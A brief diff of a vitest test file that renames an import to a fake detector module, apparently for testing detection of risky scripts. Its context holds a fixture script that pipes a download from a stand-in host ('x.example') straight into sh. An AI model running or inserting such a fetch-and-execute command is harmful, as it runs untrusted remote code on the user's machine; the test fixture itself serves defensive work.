@@ -8,7 +8,7 @@ import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { curlew } from "../process.js";
-import { runHere } from "../stand-in.js";
+import { runHere } from "../fake-detector.js";
 
 const SCRIPT = "#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n";
 
